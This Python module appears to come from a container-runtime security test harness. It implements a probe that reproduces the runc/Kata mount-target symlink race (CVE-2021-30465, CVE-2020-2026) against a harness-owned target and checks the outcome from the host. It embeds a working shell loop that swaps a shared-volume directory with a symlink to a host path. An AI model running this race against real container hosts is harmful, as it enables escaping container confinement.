"""Mount-target symlink races: runc's CVE-2021-30465, and in a VM runtime
Kata's CVE-2020-2026 (a host-side mount that followed a symlink the guest
planted in the shared directory).

A runtime makes a container's mounts at destinations inside its rootfs.
If the rootfs holds a directory another container can change (a volume
shared by two containers), the attacker swaps a component of a later
mount's destination between a real directory and a symlink; a runtime that
resolves the destination outside the rootfs's confinement (on the host, or
checks it and then mounts on the path string) mounts where the symlink
points: outside the intended destination.

mount-symlink  container 1 (the probe's container, the attacker) keeps
               renaming `lnk` in a directory of its rootfs between a real
               directory and a symlink to an absolute *host* path: the
               directory `exposed` in the rootfs of a second container the
               harness starts with the same runtime. Container 2 mounts
               container 1's directory at /vol and then a token directory of
               the harness's at /vol/lnk; a few attempts, while the swaps
               go on. A runtime that follows the symlink on the host puts the
               token at container 2's /exposed; one that resolves it inside
               container 2's root puts it at the symlink's text read as a path
               in that root, or at /vol/lnk.

The target is the harness's own: a directory in container 2's rootfs, and
the mount is made in container 2's mount namespace (or, for a runtime that
mounts on the host, on that directory), so even a break changes nothing but
what the harness made. Decided from the host: container 2's report of its
/exposed (its process is the harness's, not the attacker's), what the host
reads at /proc/PID/root/exposed and /proc/PID/mountinfo of container 2's
processes, and its own mount table. Inside a VM the guest agent makes the
mounts (on fds it resolved with openat2 RESOLVE_IN_ROOT: agent/kata_agent/
mounts.py); where they land there is the guest's matter, never a host path,
and this probe does not see it.

The positive control (`symlink-followed`, controls.py) is runc with
container 2's mount destinations resolved on the host through the planted
symlink before they are handed to runc: what a runtime without a
rootfs-confined resolution does.
"""

from __future__ import annotations

import logging
import os
import secrets
import shutil
import stat
import subprocess
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from ..errors import KataError
from ..oci.busybox import make_busybox_rootfs
from . import bundle as bundle_module
from .probe import (CHECK_FAILED, MISSING_EVIDENCE, Output, Probe, SkipProbe, Verdict, broke, held, inconclusive,
                    one_line)

log = logging.getLogger("kata_py.harness")

NAME = "mount-symlink"
FOLLOW_ON_HOST = "mount-symlink:follow-on-host"  # host.fixtures key the symlink-followed control sets
RACE = "mount-race"  # the attacker's directory, in the harness's scratch directory of container 1's rootfs
MAX_ATTEMPTS = 5
BUDGET = 60.0  # seconds of attempts: a slow runtime (a VM per container) gets fewer
TIMEOUT = 300  # the attacker's script: it swaps for as long as the host step runs
EXEC_TIMEOUT = 120
FOLLOW_WINDOW = 5.0  # seconds the control's host-side resolution waits for the symlink to be in place

# Container 2's report (the harness's command): where the token is, and what /exposed holds.
REPORT = r"""
for p in /exposed /vol/* "$2"; do
  case "$p" in /vol/*) [ -L "$p" ] && continue;; esac
  [ -f "$p/$1" ] && echo "token-at=$p: $(cat "$p/$1" 2>&1)"
done
echo "exposed=$(ls -A /exposed 2>&1 | tr '\n' ' ')"
echo "@@end"
"""


@dataclass
class Attempt:
    """One container 2: started or refused, what it reported, what the host saw."""

    number: int
    destination: str = "/vol/lnk"  # as handed to the runtime
    refused: str = ""  # the runtime's error, when it did not start container 2
    report: str = ""  # container 2's output
    reported: bool = False  # its report ran to its end marker
    host: list[str] = field(default_factory=list)  # host-side evidence of a mount outside the destination
    delete_error: str = ""

    def token_at(self, secret: str) -> list[str]:
        return [line.split("=", 1)[1].split(": ", 1)[0] for line in self.report.splitlines()
                if line.startswith("token-at=") and secret in line]

    def as_dict(self) -> dict:
        return dict(self.__dict__)


class MountRace:
    """The host side: container 2's rootfs and bundle, the token directory,
    the attempts."""

    def __init__(self, host, runtime) -> None:
        self.host = host
        self.runtime = runtime
        self.work = Path(tempfile.mkdtemp(dir=host.canary_dir, prefix="mount-symlink-"))
        os.chmod(self.work, 0o755)
        self.rootfs = make_busybox_rootfs(self.work / "rootfs")
        self.exposed = self.rootfs / "exposed"
        self.exposed.mkdir()
        self.token_dir = self.work / "token"
        self.token_dir.mkdir()
        self.token_name = f"token-{secrets.token_hex(4)}"
        self.secret = f"kata-py-harness-mount-{secrets.token_hex(12)}"
        (self.token_dir / self.token_name).write_text(self.secret + "\n")
        self.bundle = self.work / "bundle"
        self.bundle.mkdir()
        self.race = host.plant_dir / "scratch" / RACE  # container 1's directory, on the host
        self.containers: set[str] = set()

    @property
    def twin(self) -> str:
        """The symlink's target read as a path inside container 2's root:
        where a confined resolution puts the token."""
        return str(self.exposed)

    def container_id(self, number: int) -> str:
        # Not a superstring of the battery's own container id (the posture probes look for that).
        return f"kata-py-harness-mount-{self.host.token}-{number}"

    def spec(self, destination: str) -> dict:
        spec = bundle_module.harness_spec(self.rootfs)
        spec["mounts"] += [
            {"destination": "/vol", "type": "bind", "source": str(self.race), "options": ["rbind", "rw"]},
            {"destination": destination, "type": "bind", "source": str(self.token_dir), "options": ["rbind", "ro"]},
        ]
        return spec

    # -- the host step

    def run(self) -> dict:
        if self.race.is_symlink() or not self.race.is_dir():
            return {"error": f"container 1 planted no directory {RACE} (its script did not get that far)"}
        sampler = Sampler(self.race / "lnk")
        attempts: list[Attempt] = []
        started = time.monotonic()
        slowest = 0.0
        try:
            for number in range(1, MAX_ATTEMPTS + 1):
                if attempts and time.monotonic() - started + slowest > BUDGET:
                    break
                begun = time.monotonic()
                attempt = self.attempt(number)
                attempts.append(attempt)
                slowest = max(slowest, time.monotonic() - begun)
                if "/exposed" in attempt.token_at(self.secret) or attempt.host:
                    break  # a break: more attempts add nothing
        finally:
            sampler.stop()
        return {"attempts": [a.as_dict() for a in attempts], "planned": MAX_ATTEMPTS,
                "seconds": round(time.monotonic() - started, 1), "samples": sampler.counts,
                "followed": bool(self.host.fixtures.get(FOLLOW_ON_HOST))}

    def attempt(self, number: int) -> Attempt:
        attempt = Attempt(number)
        if self.race.is_symlink():  # the source itself is the harness's to name: never follow it
            attempt.refused = f"the harness's mount source {self.race} became a symlink: not mounted"
            return attempt
        if self.host.fixtures.get(FOLLOW_ON_HOST):
            attempt.destination = self.follow_on_host("/vol/lnk")
        cid = self.container_id(number)
        setup = bundle_module.ContainerSetup(self.bundle, self.rootfs, self.spec(attempt.destination))
        setup.write("/bin")
        self.containers.add(cid)
        try:
            try:
                self.runtime.start(self.bundle, cid, self.work / f"init-{number}.log")
            except (KataError, OSError, subprocess.SubprocessError) as exc:
                text = one_line(str(exc), 100000)
                attempt.refused = text if len(text) <= 300 else "…" + text[-299:]  # the end says why
                return attempt
            status, text = self.runtime.exec(cid, ["/bin/sh", "-c", REPORT, "report", self.token_name, self.twin],
                                             timeout=EXEC_TIMEOUT)
            attempt.report = text[-2000:]
            attempt.reported = "@@end" in text.splitlines() and status == 0
            attempt.host = self.host_evidence()
        finally:
            attempt.delete_error = self.delete(cid)
        return attempt

    def delete(self, cid: str) -> str:
        """`delete --force`, also after a refused start (a runtime may leave
        a created container, or a VM, behind); the error, where one is left."""
        try:
            error = self.runtime.delete(cid) or ""
        except (OSError, subprocess.SubprocessError) as exc:
            error = str(exc)
        if error and (Path(self.runtime.root) / cid).exists():
            return error  # kept, for close() to try again
        self.containers.discard(cid)
        return ""

    def follow_on_host(self, destination: str) -> str:
        """The control's resolution: `destination` through /vol's source on
        the host, following whatever symlink is there (waiting, briefly, for
        the attacker's to be in place: the race won). The result is used only
        when it lies inside container 2's rootfs, as a path in it."""
        literal = self.race / destination[len("/vol/"):]
        deadline = time.monotonic() + FOLLOW_WINDOW
        while time.monotonic() < deadline:
            real = Path(os.path.realpath(literal))
            if real != literal and real.is_relative_to(self.rootfs) and real != self.rootfs:
                return "/" + str(real.relative_to(self.rootfs))
            time.sleep(0.001)
        return destination

    def host_evidence(self) -> list[str]:
        """A mount outside the intended destination, as the host sees it."""
        found = []
        if (self.exposed / self.token_name).exists():
            found.append(f"the host's {self.exposed} holds the token (a mount in the host's namespace)")
        for point in mount_points("/proc/self/mountinfo"):
            if point == str(self.exposed) or point.startswith(str(self.exposed) + "/"):
                found.append(f"the host's mount table has a mount on {point}")
        for pid in processes_rooted_at(self.rootfs):
            try:
                if self.secret in (Path(f"/proc/{pid}/root/exposed") / self.token_name).read_text():
                    found.append(f"/proc/{pid}/root/exposed holds the token")
            except OSError:
                pass
            if "/exposed" in mount_points(f"/proc/{pid}/mountinfo"):
                found.append(f"/proc/{pid}/mountinfo has a mount on /exposed")
        return found

    def close(self) -> None:
        for cid in sorted(self.containers):
            error = self.delete(cid)
            if error:
                log.warning("harness: %s: delete --force %s failed: %s", NAME, cid, error)
        for point in sorted((p for p in mount_points("/proc/self/mountinfo")
                             if p == str(self.work) or p.startswith(str(self.work) + "/")), key=len, reverse=True):
            subprocess.run(["umount", "-l", point], capture_output=True, timeout=60)
        if any(p.startswith(str(self.work) + "/") for p in mount_points("/proc/self/mountinfo")):
            # Never walk into something mounted: leave it, and say so.
            log.warning("harness: %s: %s still has mounts under it; left in place", NAME, self.work)
            return
        shutil.rmtree(self.work, ignore_errors=True)


class Sampler:
    """What `lnk` is, sampled on the host while the attempts run: proof that
    the attacker's swaps were going on."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.counts = {"symlink": 0, "directory": 0, "absent": 0, "other": 0}
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._sample, name="harness-mount-sampler", daemon=True)
        self._thread.start()

    def _sample(self) -> None:
        while not self._done.is_set():
            try:
                mode = os.lstat(self.path).st_mode
                kind = "symlink" if stat.S_ISLNK(mode) else "directory" if stat.S_ISDIR(mode) else "other"
            except OSError:
                kind = "absent"
            self.counts[kind] += 1
            self._done.wait(0.002)

    def stop(self) -> None:
        self._done.set()
        self._thread.join(5)


def mount_points(mountinfo: str) -> list[str]:
    """The mount points in a mountinfo file (octal escapes decoded); none when unreadable."""
    try:
        lines = Path(mountinfo).read_text().splitlines()
    except OSError:
        return []
    points = []
    for line in lines:
        fields = line.split()
        if len(fields) > 4:
            points.append(fields[4].encode().decode("unicode_escape"))
    return points


def processes_rooted_at(rootfs: Path) -> list[int]:
    """Host processes whose root directory is `rootfs` (a shared-kernel
    container's); a root in another mount namespace is compared by inode."""
    try:
        wanted = os.stat(rootfs)
    except OSError:
        return []
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            root = os.stat(f"/proc/{entry}/root/")
        except OSError:
            continue
        if (root.st_dev, root.st_ino) == (wanted.st_dev, wanted.st_ino):
            found.append(int(entry))
    return found


# -- the probe


def _setup(host) -> dict[str, str]:
    runtime = getattr(host, "runtime", None)
    if runtime is None:
        raise SkipProbe("the host step does not know the runtime under test: no second container can be made")
    race = MountRace(host, runtime)
    host.fixtures[NAME] = race
    host.on_close(race.close)
    return {"H_RACE": f"{host.plant}/scratch/{RACE}", "H_TARGET": str(race.exposed), "H_WAIT": str(TIMEOUT - 20)}


def _race(host) -> dict:
    try:
        return host.fixtures[NAME].run()
    except (KataError, OSError, subprocess.SubprocessError, ValueError) as exc:
        # The host step must not take the battery down: the check says what failed.
        log.warning("harness: %s: the host step failed: %s", NAME, exc)
        return {"error": f"the host step failed: {exc}"}


def _check(output: Output, host) -> Verdict:
    race = host.fixtures[NAME]
    measured = host.during.get(NAME)
    if measured is None:
        return inconclusive("the host step did not run (container 1 never got ready)", MISSING_EVIDENCE)
    attempts = [Attempt(**a) for a in measured.get("attempts", [])]
    for attempt in attempts:
        where = attempt.token_at(race.secret)
        if "/exposed" in where or attempt.host:
            seen = (["container 2 found it at /exposed"] if "/exposed" in where else []) + attempt.host[:2]
            handed = f" (handed to the runtime as {attempt.destination})" if attempt.destination != "/vol/lnk" else ""
            return broke(one_line(f"attempt {attempt.number}: the token meant for /vol/lnk{handed} reached container "
                                  f"2's /exposed, the planted symlink's host target {race.exposed}: "
                                  f"{'; '.join(seen)}", 400))
    if "error" in measured:
        return inconclusive(one_line(measured["error"]), CHECK_FAILED)
    ran = [a for a in attempts if a.reported]
    refused = [a for a in attempts if a.refused]
    if not ran:
        why = refused[0].refused if refused else "its report did not come back"
        return inconclusive(one_line(f"container 2 never ran and reported ({len(attempts)} attempt(s)): {why}"),
                            MISSING_EVIDENCE)
    swaps = output.value("swaps")
    if not swaps.isdigit() or swaps == "0":
        return inconclusive(f"container 1 reported no swaps ({swaps or 'nothing'})", MISSING_EVIDENCE)
    samples = measured.get("samples", {})
    if not samples.get("symlink"):
        return inconclusive(one_line(f"the host never saw the planted symlink in place (samples {samples})"),
                            MISSING_EVIDENCE)
    landed = {"/vol": 0, "root": 0}
    for attempt in ran:
        where = attempt.token_at(race.secret)
        landed["/vol"] += any(p.startswith("/vol/") for p in where)
        landed["root"] += race.twin in where
    exposed = next((line.split("=", 1)[1] for line in ran[-1].report.splitlines() if line.startswith("exposed=")),
                   "")
    refusals = f"; the runtime refused {len(refused)}: …{refused[0].refused[-120:]}" if refused else ""
    return held(one_line(
        f"{len(attempts)} attempt(s) in {measured.get('seconds')} s, container 2 ran {len(ran)}: /exposed without "
        f"the token ({one_line(exposed, 40) or 'empty'}); the token in /vol (its destination, moved by the swaps) "
        f"{landed['/vol']}x, at the symlink's target inside its root {landed['root']}x; the host saw lnk a symlink "
        f"{samples.get('symlink')}x, a directory {samples.get('directory')}x; container 1 swapped {swaps} "
        f"time(s){refusals}", 500))


MOUNT_SYMLINK = Probe(
    name=NAME,
    title="mount-target symlink race (runc CVE-2021-30465; Kata CVE-2020-2026 class): swap a later mount's "
          "destination in a shared volume to a symlink to a host path while a second container mounts it",
    setup=_setup,
    script=r"""
rm -rf "$H_RACE"
mkdir -p "$H_RACE/dir" && ln -s "$H_TARGET" "$H_RACE/sym" && mv -T "$H_RACE/dir" "$H_RACE/lnk" || {
  echo "plant-failed=$H_RACE"; exit 1; }
echo "planted=$H_RACE/lnk -> $H_TARGET"
(
  cd "$H_RACE" || exit 1
  n=0
  while [ ! -e stop ]; do
    mv -T lnk dir 2>/dev/null; mv -T sym lnk 2>/dev/null
    mv -T lnk sym 2>/dev/null; mv -T dir lnk 2>/dev/null
    n=$((n + 1))
  done
  echo "$n" > "$S/swaps"
) &
echo "@@ready"
read -t "$H_WAIT" go
touch "$H_RACE/stop"
wait
echo "swaps=$(cat "$S/swaps" 2>/dev/null)"
""",
    evidence=("planted", "swaps"),
    control="symlink-followed",
    during=_race,
    check=_check,
    timeout=TIMEOUT)

PROBES = [MOUNT_SYMLINK]
